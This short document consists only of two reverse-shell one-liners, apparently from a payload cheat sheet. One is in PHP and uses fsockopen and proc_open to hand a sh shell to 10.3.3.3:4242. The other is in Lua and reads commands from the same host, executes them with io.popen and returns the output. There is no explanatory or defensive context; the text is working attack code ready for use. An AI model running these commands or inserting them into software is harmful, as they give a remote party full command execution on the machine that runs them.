php -r '$sock=fsockopen("10.3.3.3",4242);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'
lua -e 'local s=require("socket").tcp();s:connect("10.3.3.3",4242);while true do local r=s:receive();local f=io.popen(r,"r");s:send(f:read("*a"));f:close();end'
